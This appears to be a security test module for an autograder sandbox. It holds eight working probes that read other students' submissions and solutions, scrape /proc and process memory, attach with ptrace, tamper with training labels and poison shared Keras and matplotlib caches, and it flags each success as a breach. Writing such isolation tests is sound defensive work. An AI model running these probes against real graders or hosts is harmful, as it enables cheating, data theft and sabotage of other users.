"""Reading what others handed in, and spoiling what others read."""

from __future__ import annotations

from tests.attacks.suite import Attack

NUMBER = 36
TITLE = "read another submission or poison a shared cache"

NEIGHBOURS = """
import glob, json, os, re
answer = None
names = ["@NEIGHBOUR@/target.ipynb", *glob.glob("@SUBMITTED@/*/*/*"), *glob.glob("@OUT@/*/*/*/*"),
         *glob.glob("@OUT@/*"), *glob.glob("@EARLIER@/*"), "@COURSE@/solutions/target/target.ipynb",
         *glob.glob("@HOME@/*"), *glob.glob("@CANARY@/*"), *glob.glob("@SHM@/*")]
for name in names:
    try:
        text = open(name, errors="replace").read(200_000)
    except OSError as error:
        continue
    print("BRE" + "ACH", name, text[:100])
    number = re.search(r"answer = (784[^\\\\\\"]*)", text)
    if number:
        answer = eval(number[1])
"""
# Others' kernels, the judge and the grader, through /proc.
PROCESSES = """
import glob, os
own = os.getpid()
for folder in glob.glob("/proc/[0-9]*"):
    pid = int(folder[6:])
    try:
        if pid == own or os.getsid(pid) == os.getsid(0):
            continue
    except OSError:
        pass
    for name in ("environ", "mem", "maps", "fd", "root", "cwd", "exe"):
        path = folder + "/" + name
        try:
            if name in ("fd", "root", "cwd"):
                seen = os.listdir(path)
                if name == "root" and pid in (1, os.getppid()):
                    # The box's own first process may be looked at; it has the box's own root.
                    if os.stat(path).st_ino == os.stat("/").st_ino:
                        continue
            elif name == "exe":
                continue
            else:
                seen = open(path, "rb").read(200) if name != "mem" else open(path, "r+b").fileno()
        except OSError:
            continue
        if not seen or pid <= 2:
            continue
        print("BRE" + "ACH", path, str(seen)[:100])
"""
# Opens for writing and changes nothing, so that the neighbours of a broken box get their marks.
SHARED_FILES = """
import glob, os, pathlib
import matplotlib, keras.src
digits = pathlib.Path(os.environ["AUTOGRADER_DIGITS"])
names = [*glob.glob(str(digits / "*")), *glob.glob(str(digits.parent / "*")),
         *glob.glob("@COURSE@/source_data/*"), *glob.glob("@COURSE@/*"),
         *glob.glob("@COURSE@/.autograder/*"), *glob.glob("@SUBMITTED@/*/*/*"),
         *glob.glob(os.path.dirname(np.__file__) + "/__pycache__/*")[:5],
         *glob.glob(os.path.dirname(matplotlib.__file__) + "/mpl-data/*")[:5], keras.src.__file__,
         *glob.glob("@HOME@/.keras/*"), *glob.glob("@HOME@/.cache/*/*"),
         *glob.glob("@HOME@/.config/*/*"), *glob.glob("@HOME@/*"), *glob.glob("@CANARY@/*"),
         "/etc/passwd", "/etc/ld.so.cache", "/etc/ld.so.preload"]
for name in names:
    if os.path.isdir(name):
        continue
    try:
        with open(name, "r+b"):
            print("BRE" + "ACH", "may be written to:", name)
    except OSError:
        pass
folders = [str(digits), "@COURSE@", "@COURSE@/.autograder", "@COURSE@/source_data", "@SUBMITTED@",
           "@NEIGHBOUR@", "@OUT@", "@EARLIER@", "@HOME@", "@HOME@/.keras", "@CANARY@", "@TMP@",
           os.path.dirname(np.__file__) + "/__pycache__", "/var/tmp", "/dev/shm", "/tmp", "/run"]
for folder in folders:
    for name in ("pwned-36", "pwned-36/inner"):
        try:
            os.makedirs(os.path.join(folder, name))
            open(os.path.join(folder, name, "mnist.npz"), "w").close()
        except OSError:
            pass
"""
DIGITS_IN_PLACE = """
import os, pathlib
digits = pathlib.Path(os.environ["AUTOGRADER_DIGITS"])
for name in ("y_train", "y_test"):
    path = digits / f"{name}.npy"
    for attempt in ("map", "chmod", "replace"):
        try:
            if attempt == "map":
                labels = np.load(path, mmap_mode="r+")
            elif attempt == "chmod":
                os.chmod(path, 0o644)
                labels = np.load(path, mmap_mode="r+")
            else:
                os.rename(path, digits / f"pwned-{name}.npy")
                os.rename(digits / f"pwned-{name}.npy", path)
        except (OSError, ValueError) as error:
            continue
        print("BRE" + "ACH", "labels can be changed:", attempt)
"""
# What the reference has trained, and other students' trainings are taken from.
TRAININGS = """
import glob, os
folder = os.environ.get("AUTOGRADER_KNOWN_TRAININGS", "/nowhere")
entries = sorted(glob.glob(folder + "/*"))
print(len(entries), "entries")
# Permissions may change in a box of the same user; what counts is what can be done then.
def opened(name, attempt):
    try:
        os.chmod(name, 0o777)
    except OSError:
        pass
    attempt()
attempts = {
    "add": lambda: opened(folder, lambda: open(folder + "/" + 64 * "0", "w").close()),
    "take its place": lambda: os.rename(folder, folder + "-pwned"),
}
for entry in entries:
    attempts[entry + " opened"] = (
        lambda entry=entry: opened(entry, lambda: open(entry, "r+b").close())
    )
    attempts[entry + " mapped"] = lambda entry=entry: np.memmap(entry, np.uint8, "r+")
    attempts[entry + " moved"] = lambda entry=entry: os.rename(entry, folder + "/pwned")
    attempts[entry + " removed"] = lambda entry=entry: os.unlink(entry)
    attempts[entry + " linked"] = lambda entry=entry: os.link(entry, "pwned-36")
for what, attempt in attempts.items():
    try:
        attempt()
    except (OSError, ValueError):
        continue
    print("BRE" + "ACH", "trainings:", what)
for entry in entries:
    content = open(entry, "rb").read()
    if any(word in content for word in (b"history", b"arrays", b"python", b"chance")):
        print("BRE" + "ACH", "a training can be read:", entry)
"""
# Other runs of the same grader: their homes, exchange folders and sockets.
OTHER_RUNS = """
import glob, os
exchange = os.path.realpath(os.environ["AUTOGRADER_EXCHANGE"])
private = os.path.dirname(exchange)
places = [os.path.dirname(private), os.path.dirname(os.path.dirname(private)), "@TMP@", "/tmp",
          "/var/tmp", "/dev/shm", "/run", "/run/user"]
for place in places:
    for pattern in ("*", "*/*", "*/*/*"):
        for name in glob.glob(os.path.join(place, pattern))[:2000]:
            if os.path.realpath(name).startswith(private) or "autograder" not in name + place:
                continue
            if os.path.basename(name) in ("exchange", "evidence", "connection", "home"):
                try:
                    os.listdir(name)
                    print("BRE" + "ACH", "another run:", name)
                    open(os.path.join(name, "pwned-36"), "w").close()
                except OSError:
                    pass
"""
MEMORY = """
import ctypes, os, sys
library = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), *range(1, 400)} - {os.getpid()}:
    if library.ptrace(16, pid, 0, 0) == 0 and pid > 2:  # PTRACE_ATTACH
        print("BRE" + "ACH", "attached to", pid)
        library.ptrace(17, pid, 0, 0)
# Segments of System V that another process may have.
for key in range(0, 50):
    if library.shmget(key, 4096, 0o600) >= 0:
        print("BRE" + "ACH", "shared memory", key)
"""
CACHES = """
import os, pathlib
for name in ("KERAS_HOME", "MPLCONFIGDIR", "IPYTHONDIR", "TMPDIR", "HOME"):
    place = pathlib.Path(os.environ.get(name, "/nowhere"))
    try:
        (place / "datasets").mkdir(parents=True, exist_ok=True)
        (place / "datasets" / "mnist.npz").write_bytes(b"pwned")
        (place / "keras.json").write_text('{"backend": "pwned", "floatx": "float16"}')
        (place / "matplotlibrc").write_text("backend: pwned")
        for list_of_fonts in place.glob("fontlist*"):
            list_of_fonts.write_text("{}")
    except OSError as error:
        print(name, error.strerror)
os.environ["KERAS_BACKEND"] = "pwned"
"""

FORMS = [
    Attack("neighbours", {"answer": NEIGHBOURS}),
    Attack("processes", {"answer": PROCESSES}),
    Attack("shared-files", {"answer": SHARED_FILES}),
    Attack("digits", {"answer": DIGITS_IN_PLACE}),
    Attack("trainings", {"answer": TRAININGS}),
    Attack("other-runs", {"answer": OTHER_RUNS}),
    Attack("memory", {"answer": MEMORY}),
    Attack("caches", {"answer": CACHES}),
]
